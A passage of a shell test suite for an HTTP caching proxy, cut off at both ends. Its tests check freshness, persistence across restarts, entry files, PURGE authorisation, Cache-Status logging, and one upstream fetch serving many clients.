	python3 "$raw/cachecase.py" "$mode" "$raw/cache.txt" "$group" go "$keep" >"said.$m" 2>complaints &
	cases=$!
	helpers="$helpers $cases"
	wait_for lines_in 1 "said.$m" || fail "cachecase says nothing: $(cat complaints)"
	if [ "$mode" = reverse ]; then start -r ":$(cat "said.$m")" -C store "$@"; else start -C store "$@"; fi
	echo "$port" >go
	wait "$cases" || fail "$(sed 1d "said.$m"; tail -n 3 complaints)"
}
fetch() { get -H 'Host: cache.example' "$@"; }  # the same URL whatever the port
ask() { code -H 'Host: cache.example' "$@"; }
entries() { find store -path '*/??/*' -type f 2>/dev/null; }
stored() { [ "$(entries | wc -l)" -ge "$1" ]; }
octets_in() { find "$1" -mindepth 2 -type f -exec ls -ln {} + 2>/dev/null | awk '{ n += $5 } END { print n + 0 }'; }
asked() { cat "got$m".* 2>/dev/null | grep -o '[A-Z]* /[^ ]* HTTP' | wc -l; }  # what the origin started last was asked
was_asked() { [ "$(asked)" -ge "$1" ]; }
status() { header Cache-Status; }
cut_off() { kill -KILL "$pid"; wait "$pid" 2>/dev/null; pids=${pids% "$pid"}; }
crowd() { python3 "$raw/crowd.py" "$@"; }
crowd_origin() {  # an origin of many objects; sets $origin
	need python3
	m=$((m + 1))
	: >"said.$m"
	python3 "$raw/crowd.py" origin >"said.$m" 2>"complaint.$m" </dev/null &
	helpers="$helpers $!"
	wait_for lines_in 1 "said.$m" || fail "no crowd: $(cat "complaint.$m")"
	origin=$(cat "said.$m")
}
answer() { printf 'send:HTTP/1.1 200 OK\\r\\nCache-Control: %s\\r\\nContent-Length: %d\\r\\n\\r\\n%s' "$1" "${3:-${#2}}" "$2"; }

test_a_cache_knows_how_long_an_answer_is_fresh() { cached reverse freshness keep; }
test_a_cache_reads_and_sends_age() { cached reverse age keep; }
test_a_cache_reads_dates_strictly() { cached reverse expires keep; }
test_a_cache_stores_what_may_be_stored_and_no_more() { cached reverse storing keep; }
test_a_cache_guesses_freshness_only_where_it_may() { cached reverse heuristic keep; }
test_a_cache_stores_fields_end_to_end() { cached reverse fields keep; }
test_a_cache_serves_stale_only_where_it_is_allowed() { cached reverse stale keep; }
test_a_cache_selects_variants_by_vary() { cached reverse vary keep; }
test_a_cache_answers_conditions_and_sets_its_own() { cached reverse conditional keep; }
test_a_cache_updates_what_is_stored_by_304_and_head() { cached reverse update keep; }
test_a_cache_forgets_what_unsafe_methods_changed() { cached reverse invalidation keep; }
test_a_cache_cuts_ranges_and_never_serves_parts_as_the_whole() { cached reverse ranges keep; }
test_a_cache_keeps_answers_to_authorization_apart() { cached reverse authorization keep; }
test_a_cache_obeys_directives_of_requests() { cached reverse requests keep; }
test_a_cache_obeys_targeted_fields() { cached reverse targeted keep; }
test_a_cache_never_stores_what_is_not_whole() { cached reverse framing keep; }
test_a_cache_is_not_poisoned() { cached reverse poisoning keep; }
test_cache_status_says_what_happened() { cached reverse status keep; }
test_the_rules_of_caching_hold_in_forward_mode() { cached forward all keep; }
test_the_rules_of_caching_hold_over_two_workers() { cached reverse all each -w 2; }

test_usage_errors_of_the_cache_name_what_is_wrong() {
	while IFS='|' read -r args message; do
		eval "set -- $args"
		(refuses "$message" -l 0 "$@") || bad=1
		[ -e d ] && fail "proxy $* made a directory"
	done <<-'END'
	-C|-C
	-C ''|-C
	--cache=|--cache
	-C -q|-C.*-q
	-C d -C e|(-C|--cache)
	-C d --cache d|--cache
	-C d,size|size
	-C d,size=|size
	-C d,size=0|size
	-C d,size=-1|size
	-C d,size=1X|1X
	-C d,size=99999999999999999999|size
	-C d,size=99999999999G|size
	-C d,size=1M,size=2M|size
	-C d,object=|object
	-C d,object=big|big
	-C d,size=1M,object=2M|object
	-C d,stale=|stale
	-C d,stale=soon|soon
	-C d,stale=-1|stale
	-C d,mode=|mode
	-C d,mode=play|play
	-C d,mode=record,mode=fill|mode
	-C d,nonsense|nonsense
	-C d,nonsense=1|nonsense
	-C d,|-C d,: .*comma
	-C d,,size=1M|-C d,,size=1M: .*comma
	-C d,size=1M,|-C d,size=1M,: .*comma
	--cache=d,|--cache d,: .*comma
	-C d,mode=|mode= is none; there are mode=record, mode=replay and mode=fill
	-C d,mode=normal|mode=normal is none
	-C d,mode=Record|mode=Record is none
	-C d,mode|mode
	-C ,size=1M|-C|--cache
	END
	[ "$bad" = '' ]
}

test_a_cache_makes_its_directory_for_itself_alone() {
	start -r /=200 -C store
	is "$(ls -ld store | cut -c1-10)" drwx------
	is "$(cat store/proxy-cache)" 1
}

test_a_cache_takes_an_empty_directory_and_its_own() {
	mkdir store
	start -r /=200 -C store
	stop
	start -r /=200 -C store
	stop
	is "$(cat store/proxy-cache)" 1
}

test_a_cache_refuses_a_directory_of_something_else() {
	mkdir store
	echo precious >store/mine
	try -l 0 -r /=200 -C store
	is "$status" 1 'the exit status'
	has "$err" store
	is "$(ls store)" mine
	is "$(cat store/mine)" precious
}

test_a_cache_refuses_a_directory_of_another_version() {
	for version in 2 0 999 '' 'something else'; do
		rm -rf store
		mkdir -p store/ab
		echo "$version" >store/proxy-cache
		echo x >store/ab/kept
		try -l 0 -r /=200 -C store
		is "$status" 1 "the exit status at version '$version'"
		has "$err" store
		is "$(cat store/ab/kept)" x
		is "$(cat store/proxy-cache)" "$version"
	done
}

test_a_cache_refuses_what_is_no_directory() {
	echo precious >file
	try -l 0 -r /=200 -C file
	is "$status" 1 'the exit status'
	has "$err" file
	is "$(cat file)" precious
	try -l 0 -r /=200 -C no/such/parent
	is "$status" 1 'the exit status'
}

test_a_cache_ignores_foreign_files_in_its_directory() {
	origin head "$(answer max-age=100 ok)" again
	start -r ":$origin" -C store
	is "$(fetch "$url/")" ok
	stop
	entry=$(entries)
	for name in "${entry%-*}-9" "${entry%/*}/README" "${entry%/*}/x" store/notes "${entry%/*}/.hidden"; do echo x >"$name"; done
	mkdir -p store/zz/deep store/tmp store/lost+found
	ln -s /dev/zero "${entry%/*}/00000000000000000000000000000000-0"
	ln -s loop "${entry%/*}/loop"
	mkfifo "${entry%/*}/11111111111111111111111111111111-0"
	start -r ":$origin" -C store
	is "$(fetch "$url/")" ok
	is "$(asked)" 1 'questions to the origin'
	[ -f store/notes ] || fail 'a foreign file is gone'
}

test_a_second_program_on_the_same_cache_is_refused() {
	start -r /=200 -C store
	try -l 0 -r /=200 -C store
	is "$status" 1 'the exit status'
	has "$err" store
	try -l 0 -r /=200 -C "$PWD/store/../store/"
	is "$status" 1 'the exit status by another name'
	answers 200 "$url/"
	stop
	start -r /=200 -C store
	cut_off
	start -r /=200 -C store
	answers 200 "$url/"
}

test_an_entry_is_a_file_that_a_person_can_read() {
	origin head 'send:HTTP/1.1 200 OK\r\nCache-Control: max-age=100\r\nVary: X-A\r\nX-Some: thing\r\nContent-Length: 6\r\n\r\nhello\n' again
	start -r ":$origin" -C store
	is "$(get -H 'X-A: seven' -H 'Host: some.example' "$url/a/path?q")" hello
	entry=$(entries)
	is "$(entries | wc -l | tr -d ' ')" 1 'number of files'
	like "$entry" '^store/[0-9a-f]{2}/[0-9a-f]{32}-[0-7]$'
	name=${entry##*/} directory=${entry%/*}
	is "${directory##*/}" "$(echo "$name" | cut -c1-2)" 'its directory'
	like "$(sed -n 1p "$entry")" '^proxy-cache 1 [0-9a-f]{8} 0{15}6 [0-9a-f]{8} [0-9a-f]{8} *$' 'the first line'
	like "$(grep '^key ' "$entry")" 'some\.example.*/a/path\?q' 'the key line'
	grep -q '^time ' "$entry" || fail 'no time'
	grep -iq '^vary x-a: seven$' "$entry" || fail 'no vary line'
	tr -d '\r' <"$entry" | grep -q '^X-Some: thing$' || fail 'not the head as it came'
	is "$(tail -n 1 "$entry")" hello
	head=$(($(wc -c <"$entry") - 6 - $(sed -n 1p "$entry" | wc -c)))
	is "$(sed -n 1p "$entry" | cut -d' ' -f3)" "$(printf '%08x' "$head")" 'the length before the body'
	case $(ls -l "$entry") in -rw-------*) ;; *) fail "others may read it: $(ls -l "$entry")" ;; esac
	is "$(find store/tmp -type f 2>/dev/null | wc -l | tr -d ' ')" 0 'temporary files'
	stop
	rm "$entry"
	start -r ":$origin" -C store
	get -H 'X-A: seven' -H 'Host: some.example' -o body "$url/a/path?q"
	is "$(asked)" 2 'questions after rm'
}

test_a_cache_lives_on_after_a_restart() {
	origin head "$(answer 'max-age=100\r\nAge: 40' ok)" again
	start -r ":$origin" -C store
	is "$(fetch "$url/")" ok
	stop
	"$peer" nap 1100
	start -r ":$origin" -C store
	is "$(ask "$url/")" 200
	is "$(cat body)" ok
	like "$(header Age)" '^4[1-9]$' 'Age'
	like "$(status)" '^proxy; hit; ttl=5[0-9]$' 'Cache-Status'
	cut_off
	start -r ":$origin" -C store -w 2
	for i in 1 2 3 4 5 6; do is "$(fetch "$url/")" ok; done
	is "$(asked)" 1 'questions to the origin'
}

test_what_became_stale_while_nothing_ran_is_not_served() {
	origin head "$(answer max-age=1 ok)" head "$(answer max-age=1 new)" -- head "$(answer max-age=1 new)"
	start -r ":$origin" -C store
	is "$(fetch "$url/")" ok
	stop
	"$peer" nap 2100
	start -r ":$origin" -C store
	is "$(fetch "$url/")" new
}

test_invalidation_holds_over_a_restart() {
	origin head "$(answer max-age=100 old)" head "$(answer no-cache changed)" head "$(answer max-age=100 new)" -- head "$(answer max-age=100 new)"
	start -r ":$origin" -C store
	is "$(fetch "$url/")" old
	is "$(fetch -d x "$url/")" changed
	cut_off
	start -r ":$origin" -C store
	is "$(fetch "$url/")" new
}

test_what_an_unsafe_method_names_is_dropped_in_the_terms_of_either_side() {
	while read -r times location; do
		origin head "$(answer max-age=100 ok)" head "send:HTTP/1.1 201 Created\\r\\nLocation: $location\\r\\nContent-Length: 0\\r\\n\\r\\n" again
		start -r "/api=http://127.0.0.1:$origin/v1,host=inner.example" -r "/=404" --trust 127.0.0.1/32 -C store
		for method in GET DELETE GET; do
			path=b
			[ $method = GET ] || path=a/a
			get -X $method -H 'Host: cache.example' -H 'X-Forwarded-Host: outer.example' -H 'X-Forwarded-Proto: https' -o body "$url/api/$path"
		done
		is "$(asked)" "$times" "questions to the origin, for Location: $location;"
		stop
		rm -rf store
	done <<-'END'
	3 /v1/b
	3 /api/b
	3 http://inner.example/v1/b
	3 HTTP://INNER.Example/v1/b#c
	3 //inner.example/v1/b
	3 http://cache.example/api/b
	3 http://cache.example:80/api/b
	3 //cache.example/api/b
	3 https://outer.example/api/b
	3 https://outer.example:443/api/b
	3 ../b
	3 ./..//.././b
	3 %2e%2e/%62
	3 /v1/x/../b
	2 b
	2 ?b
	2 /v1/b?
	2 https://outer.example:80/api/b
	2 https://cache.example/api/b
	2 http://outer.example/api/b
	2 http://cache.example:81/api/b
	2 http://other.example/api/b
	2 http://x@cache.example/api/b
	2 http:/api/b
	2 mailto:b
	2 /v1b
	END
}

test_a_cache_stays_over_hup() {
	origin head "$(answer max-age=100 ok)" again
	start -r ":$origin" -C store -w 2
	is "$(fetch "$url/")" ok
	kill -HUP "$pid"
	for i in 1 2 3 4 5 6; do is "$(fetch "$url/")" ok; done
	is "$(asked)" 1 'questions to the origin'
}

test_a_worker_that_replaces_another_has_the_cache() {
	need_proc
	origin head "$(answer max-age=100 ok)" again
	may_say '^proxy: worker'
	start -r ":$origin" -C store -w 2
	is "$(fetch "$url/")" ok
	before=$(tree "$pid")
	for worker in $(echo "$before" | sed 1d); do kill -KILL "$worker"; done
	replaced() { [ "$(tree "$pid" | wc -l)" -ge "$(echo "$before" | wc -l)" ] && ! tree "$pid" | sed 1d | grep -qFx "$(echo "$before" | sed 1d)"; }
	wait_for replaced || fail 'no new workers'
	for i in 1 2 3 4 5 6; do is "$(fetch "$url/")" ok; done
	is "$(asked)" 1 'questions to the origin'
}

test_long_urls_and_heads_are_stored_whole_or_not_at_all() {
	field=$(printf %0900d 7)
	fields=''
	for i in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20; do fields="${fields}X-F$i: $i$field\\r\\n"; done
	origin head "send:HTTP/1.1 200 OK\\r\\nCache-Control: max-age=100\\r\\nVary: X-A, X-Long\\r\\n${fields}Content-Length: 2\\r\\n\\r\\nok" again
	start -r ":$origin" -C store
	path=$(printf %06000d 1)
	for i in 1 2 3; do
		is "$(ask -H "X-Long: $field" "$url/$path")" 200
		is "$(cat body)" ok
		is "$(header X-F20)" "20$field" 'the last field'
	done
	is "$(ask -H "X-Long: ${field}8" "$url/$path")" 200
	hasnt "$(status)" 'proxy; hit' 'Cache-Status of another variant'
	is "$(ask -H "X-Long: $field" "$url/${path}1")" 200
	hasnt "$(status)" 'proxy; hit' 'Cache-Status of another URL'
	[ "$(asked)" -le 5 ] || fail "$(asked) questions to the origin"
}

# ---- the cache: PURGE ----

test_purge_drops_a_url_with_all_its_variants() {
	origin head "$(answer 'max-age=100\r\nVary: X-A' ok)" again
	start -r ":$origin" -C store
	for a in 1 2 3; do fetch -H "X-A: $a" -o body "$url/x"; done
	fetch -o body "$url/y"
	is "$(asked)" 4
	is "$(ask -X PURGE "$url/x")" 200
	is "$(ask -X PURGE "$url/x")" 404
	is "$(ask -X PURGE "$url/never")" 404
	fetch -o body "$url/~z"
	is "$(ask -X PURGE "$url/%7ez")" 200 'PURGE in another form'
	is "$(asked)" 5 'PURGE asks nobody; questions'
	fetch -o body "$url/y"
	is "$(asked)" 5 'questions after another URL'
	for a in 1 2 3; do fetch -H "X-A: $a" -o body "$url/x"; done
	is "$(asked)" 8 'questions after the URL'
}

test_purge_holds_for_all_workers_and_after_a_restart() {
	origin head "$(answer max-age=100 ok)" again
	start -r ":$origin" -C store -w 2
	for i in 1 2 3 4 5 6 7 8; do fetch -o body "$url/"; done
	is "$(asked)" 1
	is "$(ask -X PURGE "$url/")" 200
	fetch -o body "$url/"
	is "$(asked)" 2 'questions after PURGE'
	for i in 1 2 3 4 5 6 7 8; do fetch -o body "$url/"; done
	is "$(asked)" 2 'questions then'
	is "$(ask -X PURGE "$url/")" 200
	stop
	start -r ":$origin" -C store
	fetch -o body "$url/"
	is "$(asked)" 3 'questions after a restart'
}

test_purge_in_forward_mode() {
	origin head "$(answer max-age=100 ok)" again
	start -C store
	is "$(get -x "$url" "http://127.0.0.1:$origin/a")" ok
	is "$(code -x "$url" -X PURGE "http://127.0.0.1:$origin/a")" 200
	is "$(code -x "$url" -X PURGE "http://127.0.0.1:$origin/a")" 404
	is "$(get -x "$url" "http://127.0.0.1:$origin/a")" ok
	is "$(asked)" 2
}

test_purge_is_refused_to_what_came_from_elsewhere() {
	origin head "$(answer max-age=100 ok)" again
	start_logged --log-format human -r ":$origin" -C store
	fetch -o body "$url/"
	for f in 'Forwarded: for=1.2.3.4' 'X-Forwarded-For: 127.0.0.1' 'X-Forwarded-Host: a' 'X-Forwarded-Proto: http' 'X-Forwarded-Foo: 1' 'Via: 1.1 x' \
		'Origin: http://evil.example' 'Sec-Fetch-Site: cross-site' 'Sec-Fetch-Mode: cors' 'sec-fetch-dest: empty' 'Origin: null'; do
		is "$(ask -X PURGE -H "$f" "$url/")" 403 "PURGE with $f"
	done
	fetch -o body "$url/"
	is "$(asked)" 1 'questions to the origin'
	grep -q ' 403 PURGE .*why=purge' log || fail "no why=purge: $(cat log)"
	is "$(ask -X PURGE "$url/")" 200
}

test_purge_without_a_cache_is_an_unknown_method() {
	origin head "$(answer no-store ok)" again
	start -r ":$origin"
	is "$(ask -X PURGE "$url/")" 200
	is "$(asked)" 1
}

# ---- the cache: what is said of it ----

test_the_log_says_what_the_cache_did() {
	for format in human json '%m %{cache}x'; do
		rm -rf log store
		origin head "$(answer 'max-age=100\r\nETag: "a"' ok)" head 'send:HTTP/1.1 304 N\r\nETag: "a"\r\nCache-Control: max-age=1, stale-while-revalidate=100\r\n\r\n' \
			head "$(answer no-store ok)" head "$(answer 'max-age=100' ok)" --  head "$(answer 'max-age=100' ok)"
		start_logged --log-format "$format" -r ":$origin" -r canned.example=200 -C store
		fetch -o body "$url/x"                               # miss
		fetch -o body "$url/x"                               # hit
		fetch -o body -H 'Cache-Control: no-cache' "$url/x"  # revalidated
		fetch -o body "$url/y" -d x                          # bypass
		"$peer" nap 2100
		fetch -o body "$url/x"                               # stale
		get -o body -H 'Host: canned.example' "$url/z"     # none
		wait_for lines_in 6 log || fail "lines: $(cat log)"
		case $format in
		human) words=$(sed 's/.* cache=\([^ ]*\).*/\1/; / \/z /s/.*/-/' log | tr '\n' ' '); hasnt "$(grep '/z ' log)" cache= ;;
		json) words=$(sed 's/.*"cache": *"*\([a-z]*\).*/\1/; s/null/-/' log | tr '\n' ' ') ;;
		*) words=$(sed 's/^[A-Z]* //' log | tr '\n' ' ') ;;
		esac
		is "$words" 'miss hit revalidated bypass stale - ' "the words in $format"
		stop
	done
}

test_only_if_cached_has_its_reason_in_the_log() {
	origin head "$(answer max-age=100 ok)" again
	start_logged --log-format human -r ":$origin" -C store
	is "$(ask -H 'Cache-Control: only-if-cached' "$url/")" 504
	wait_for grep -q ' 504 GET .*why=only-if-cached' log || fail "$(cat log)"
}

test_why_something_is_not_stored_is_said() {
	while IFS='|' read -r fields; do
		origin head "send:HTTP/1.1 200 OK\\r\\n${fields}Content-Length: 2\\r\\n\\r\\nok" again
		start -r ":$origin" -C "store.$m"
		is "$(ask "$url/")" 200
		like "$(status)" '^proxy; fwd=uri-miss; .*detail=' "Cache-Status of $fields"
		hasnt "$(status)" stored "Cache-Status of $fields"
	done <<-'END'
	Cache-Control: no-store\r\n
	Cache-Control: private\r\n
	Vary: *\r\nCache-Control: max-age=100\r\n
	END
}

test_canned_answers_echo_and_files_are_never_stored() {
	echo content >text
	start -r /a=200:hello -r /b=echo -r /c=file:text -C store
	for p in a b c; do
		is "$(ask "$url/$p")" 200
		is "$(ask "$url/$p")" 200
		hasnt "$(status)" hit
		is "$(header Age)" '' 'Age'
	done
	is "$(entries)" ''
}

# ---- the cache: what is stored is what came, what is sent is what is set ----

test_what_response_headers_are_set_to_is_not_stored() {
	origin head "$(answer 'max-age=100\r\nX-B: theirs' ok)" again
	start -r ":$origin" -C store -R 'X-A: ours' -R 'X-B: ours'
	is "$(ask "$url/")" 200
	is "$(ask "$url/")" 200
	is "$(header X-A) $(header X-B)" 'ours ours'
	stop
	start -r ":$origin" -C store -R 'X-C: other'
	is "$(ask "$url/")" 200
	is "$(header X-A) $(header X-B) $(header X-C)" ' theirs other'
	is "$(asked)" 1
}

test_credentials_that_we_add_count_as_sent() {
	origin head "$(answer max-age=100 ok)" again
	start -r ":$origin" -C store -H 'Authorization: Basic eDp5'
	fetch -o body "$url/"
	fetch -o body "$url/"
	is "$(asked)" 2 'questions with -H Authorization'
	stop
	echo x:y >login
	start -r ":$origin,auth=@login" -C store
	fetch -o body "$url/"
	fetch -o body "$url/"
	is "$(asked)" 4 'questions with auth='
}

test_routes_never_share_entries() {
	origin head "$(answer max-age=100 one)" again
	one=$origin
	origin head "$(answer max-age=100 two)" again
	start -r "/one=http://127.0.0.1:$one/" -r "/two=http://127.0.0.1:$origin/" -r "one.example=:$one" -r "two.example=:$origin" -C store
	for i in 1 2; do
		is "$(get "$url/one/x")" one
		is "$(get "$url/two/x")" two
		is "$(get -H 'Host: one.example' "$url/x")" one
		is "$(get -H 'Host: two.example' "$url/x")" two
	done
}

test_members_of_a_group_share_entries() {
	origin head "$(answer max-age=100 one)" again
	one=$origin
	origin head "$(answer max-age=100 two)" again
	start -r "/=:$one" -r "/=:$origin" -C store
	want=$(fetch "$url/x")
	for i in 1 2 3 4; do is "$(fetch "$url/x")" "$want"; done
}

test_the_variants_of_a_url_are_bounded() {
	origin head "$(answer 'max-age=100\r\nVary: X-A' ok)" again
	start -r ":$origin" -C store
	i=0
	while [ $i -lt 30 ]; do
		is "$(fetch -H "X-A: $i" "$url/")" ok
		i=$((i + 1))
	done
	[ "$(entries | wc -l)" -le 8 ] || fail "$(entries | wc -l) variants are stored"
	fetch -o body -H 'X-A: 29' "$url/"
	is "$(asked)" 30 'the last one is a hit; questions'
}

test_a_hit_needs_no_origin() {
	origin head "$(answer max-age=100 ok)"
	start -r ":$origin" -C store
	is "$(fetch "$url/")" ok
	kill -KILL "$helper"
	wait_for "$peer" free "$origin"
	is "$(fetch "$url/")" ok
	is "$(ask "$url/other")" 502
}

test_stale_is_set_for_answers_that_do_not_say() {
	origin head "$(answer max-age=1 ok)" head "$(answer 'max-age=1, must-revalidate' must)" head "$(answer 'max-age=1, stale-if-error=0' own)"
	start -r ":$origin" -C store,stale=1h
	is "$(fetch "$url/")" ok
	is "$(fetch "$url/must")" must
	is "$(fetch "$url/own")" own
	kill -KILL "$helper"
	wait_for "$peer" free "$origin"
	"$peer" nap 2100
	is "$(ask "$url/")" 200
	is "$(cat body)" ok
	like "$(status)" '^proxy; (hit|fwd=stale); ttl=-[1-9]' 'Cache-Status'
	hasnt "$(cat head)" Warning
	like "$(ask "$url/must")" '50[24]' 'must-revalidate'
	like "$(ask "$url/own")" '50[24]' 'stale-if-error=0'
}

test_stale_ends() {
	origin head "$(answer max-age=1 ok)"
	start -r ":$origin" -C store,stale=1s
	is "$(fetch "$url/")" ok
	kill -KILL "$helper"
	wait_for "$peer" free "$origin"
	"$peer" nap 3100
	like "$(ask "$url/")" '50[24]'
}

# ---- the cache: one fetch for many ----

crowd_of() {  # clients 1 to N that ask for /: what each gets is in client.K; half.K when 01234 has come
	clients='' k=0
	while [ $k -lt "$1" ]; do
		k=$((k + 1))
		talk "$port" 'send:GET / HTTP/1.1\r\nHost: cache.example\r\n\r\n' head read:01234 "touch:half.$k" read:56789 "touch:whole.$k" >"client.$k" 2>"fate.$k" &
		clients="$clients $!"
		helpers="$helpers $!"
	done
}
all_have() { k=$2; while [ "$k" -le "$3" ]; do [ -e "$1.$k" ] || return 1; k=$((k + 1)); done; }
crowd_ends() {  # all of them got it
	for client in $clients; do wait "$client" || fail "a client: $(cat fate.*)"; done
}

test_one_fetch_serves_many_as_it_grows() {
	origin head touch:began "$(answer max-age=100 01234 10)" wait:go send:56789 rest
	start -r ":$origin" -C store
	crowd_of 8
	wait_for all_have half 1 8 || fail 'not all have what has come'
	is "$(entries)" '' 'what is not whole is not to be seen; files'
	touch go
	crowd_ends
	is "$(asked)" 1 'questions to the origin'
	cat client.* | grep -q '^Cache-Status: proxy; .*collapsed' || fail "nobody was collapsed: $(cat client.*)"
	is "$(fetch "$url/")" 0123456789
	is "$(asked)" 1 'questions then'
}

test_one_fetch_serves_many_that_wait_for_its_head() {
	origin head touch:began wait:go "$(answer max-age=100 0123456789)" rest
	start -r ":$origin" -C store
	crowd_of 1
	wait_for test -e began
	crowd_of 8
	"$peer" nap 300
	touch go
	wait_for all_have whole 1 8 || fail 'not all have it'
	is "$(asked)" 1 'questions to the origin'
}

test_one_fetch_of_chunks_serves_many() {
	origin head 'send:HTTP/1.1 200 OK\r\nCache-Control: max-age=100\r\nTransfer-Encoding: chunked\r\n\r\n5\r\n01234\r\n' wait:go 'send:5\r\n56789\r\n0\r\n\r\n' rest
	start -r ":$origin" -C store
	crowd_of 5
	wait_for all_have half 1 5 || fail 'not all have what has come'
	touch go
	crowd_ends
	is "$(asked)" 1 'questions to the origin'
	is "$(fetch "$url/")" 0123456789
}

test_who_waits_goes_on_at_once_if_it_is_not_to_be_stored() {
	origin head touch:began wait:joined "$(answer no-store 01234 10)" wait:go send:56789 rest -- head "$(answer no-store 0123456789)" again
	start -r ":$origin" -C store
	talk "$port" 'send:GET / HTTP/1.1\r\nHost: cache.example\r\n\r\n' head read:01234 read:56789 >first 2>&1 &
	first=$!
	wait_for test -e began
	crowd_of 5
	"$peer" nap 300
	touch joined
	wait_for all_have whole 1 5 || fail 'they wait for what is not theirs'
	touch go
	wait "$first" || fail "the first: $(cat first)"
	is "$(asked)" 6 'questions to the origin'
	is "$(entries)" ''
}

test_variants_do_not_wait_for_one_another_to_be_wrong() {
	origin head touch:began wait:joined 'send:HTTP/1.1 200 OK\r\nCache-Control: max-age=100\r\nVary: X-A\r\nContent-Length: 10\r\n\r\n01234' wait:go send:56789 rest \
		-- head 'send:HTTP/1.1 200 OK\r\nCache-Control: max-age=100\r\nVary: X-A\r\nContent-Length: 3\r\n\r\ntwo' again
	start -r ":$origin" -C store
	crowd_of 1
	wait_for test -e began
	fetch -H 'X-A: 2' "$url/" >two &
	two=$!
	"$peer" nap 200
	touch joined
	wait "$two" || fail 'the second got nothing'
	is "$(cat two)" two
	touch go
	crowd_ends
}

test_a_fetch_that_is_cut_off_is_cut_off_for_all() {
	origin head "$(answer max-age=100 01234 10)" wait:go -- head "$(answer max-age=100 0123456789)" again
	start -r ":$origin" -C store
	crowd_of 4
	wait_for all_have half 1 4 || fail 'not all have what has come'
	touch go
	for client in $clients; do wait "$client" && fail 'what was cut off looked whole'; done
	is "$(entries)" ''
	is "$(find store/tmp -type f | wc -l | tr -d ' ')" 0 'temporary files'
	is "$(fetch "$url/")" 0123456789
	is "$(asked)" 2 'questions to the origin'
}

test_who_waits_for_a_client_that_goes_away_does_not_ask_one_by_one() {
	origin head touch:came rest -- head wait:go "$(answer max-age=100 0123456789)" again
	start -r ":$origin" -C store
	get -o body "$url/" -H 'Host: cache.example' 2>/dev/null &
	first=$!
	wait_for test -e came
	crowd_of 8
	"$peer" nap 200
	kill -KILL $first
	wait_for was_asked 2
	"$peer" nap 200
	touch go
	crowd_ends
	is "$(asked)" 2 'questions to the origin'
}

test_who_waits_for_a_fetch_that_fails_is_answered() {
	origin head touch:began wait:go shut -- head "$(answer max-age=100 0123456789)" again
	start -r ":$origin" -C store
	ask "$url/" >answer.0 &
	clients=$!
	wait_for test -e began
	for i in 1 2 3 4; do
		ask "$url/" >"answer.$i" &
		clients="$clients $!"
	done
	"$peer" nap 200
	touch go
	for client in $clients; do wait "$client"; done
	like "$(cat answer.0)$(cat answer.1)$(cat answer.2)$(cat answer.3)$(cat answer.4)" '^((200|502)){5}$'
}

test_a_slow_client_does_not_slow_the_store() {
	origin head 'send:HTTP/1.1 200 OK\r\nCache-Control: max-age=100\r\nContent-Length: 20000000\r\n\r\n' pour:20000000 rest
	start -r ":$origin" -C store
	talk "$port" 'send:GET / HTTP/1.1\r\nHost: cache.example\r\n\r\n' head touch:slow wait:end sink:20000000 touch:all >/dev/null 2>&1 &
	slow_one=$!
	wait_for test -e slow
	is "$(fetch -o body -w '%{size_download}' "$url/")" 20000000
	wait_for stored 1 || fail 'it is not stored'
	is "$(asked)" 1 'questions to the origin'
	touch end
	wait "$slow_one" || fail 'the slow one did not get it all'
}

test_an_aborted_client_does_not_abort_a_fetch_near_its_end() {
	origin head 'send:HTTP/1.1 200 OK\r\nCache-Control: max-age=100\r\nContent-Length: 100000\r\n\r\n' pour:90000 wait:gone pour:10000 rest -- head "$(answer no-store no)" again
	start -r ":$origin" -C store
	talk "$port" 'send:GET / HTTP/1.1\r\nHost: cache.example\r\n\r\n' head take:80000 reset >/dev/null || fail 'no answer'
	"$peer" nap 300
	touch gone
	wait_for stored 1 || fail 'it is not stored'
	is "$(fetch -o body -w '%{size_download}' "$url/")" 100000
	is "$(asked)" 1 'questions to the origin'
}

test_the_first_client_aborted_does_not_abort_the_others() {
	origin head "$(answer max-age=100 01234 10)" wait:go send:56789 rest
	start -r ":$origin" -C store
	talk "$port" 'send:GET / HTTP/1.1\r\nHost: cache.example\r\n\r\n' head read:01234 touch:began wait:leave reset >/dev/null 2>&1 &
	first=$!
	wait_for test -e began
	crowd_of 4
	wait_for all_have half 1 4 || fail 'the others wait'
	touch leave
	wait "$first"
	"$peer" nap 200
	touch go
	crowd_ends
	is "$(asked)" 1 'questions to the origin'
}

test_one_fetch_over_two_workers_is_right() {
	origin head "$(answer max-age=100 01234 10)" wait:go send:56789 rest
	start -r ":$origin" -C store -w 2
	crowd_of 12
	wait_for was_asked 1
	"$peer" nap 200
	touch go
	crowd_ends
	[ "$(asked)" -le 12 ] || fail "$(asked) questions for 12 clients"
	asked=$(asked)
	for i in 1 2 3 4 5 6; do is "$(fetch "$url/")" 0123456789; done
	is "$(asked)" "$asked" 'questions then'
}

test_who_asks_for_something_special_while_it_is_fetched_gets_it_right() {
	head='send:HTTP/1.1 200 OK\r\nCache-Control: max-age=100\r\nETag: "a"\r\nContent-Length: 10\r\n\r\n'
	origin head "${head}01234" wait:go send:56789 rest -- head "${head}0123456789" again
	start -r ":$origin" -C store
	crowd_of 1
	wait_for all_have half 1 1
	for f in 'Range: bytes=2-4' 'If-None-Match: "a"' 'If-None-Match: "b"' 'Range: bytes=7-' 'Cache-Control: only-if-cached' 'Cache-Control: no-cache' 'Cache-Control: no-store'; do
		get -H 'Host: cache.example' -H "$f" -o "special.${f##*[ =]}" -w '%{http_code} ' "$url/" >"code.${f##*[ =]}" &
		clients="$clients $!"
	done
	get -I -H 'Host: cache.example' "$url/" -o head.only -w '%{http_code} ' >code.head &
	clients="$clients $!"
	wait_for test -s code.no-cache || fail 'no-cache waits for an older fetch'
	is "$(cat special.no-cache)" 0123456789
	"$peer" nap 200
	touch go
	crowd_ends
	like "$(cat special.2-4)" '^(234|0123456789)$' 'the range'
	like "$(cat special.7-)" '^(789|0123456789)$' 'the other range'
	like "$(cat 'code."a"')$(cat 'special."a"' 2>/dev/null)" '^(304 |200 0123456789)$' 'If-None-Match that matches'
	is "$(cat 'code."b"')$(cat 'special."b"')" '200 0123456789'
	like "$(cat code.only-if-cached)" '^(504|200) $' 'only-if-cached'
	is "$(cat special.no-store)" 0123456789
	is "$(cat code.head)" '200 ' 'HEAD'
	is "$(fetch "$url/")" 0123456789
}

test_what_was_being_fetched_when_it_was_changed_is_not_used_afterwards() {
	origin head "$(answer max-age=100 01234 10)" wait:go send:56789 head "$(answer max-age=100 new)" -- head "$(answer no-store changed)" head "$(answer max-age=100 new)" -- head "$(answer max-age=100 new)"
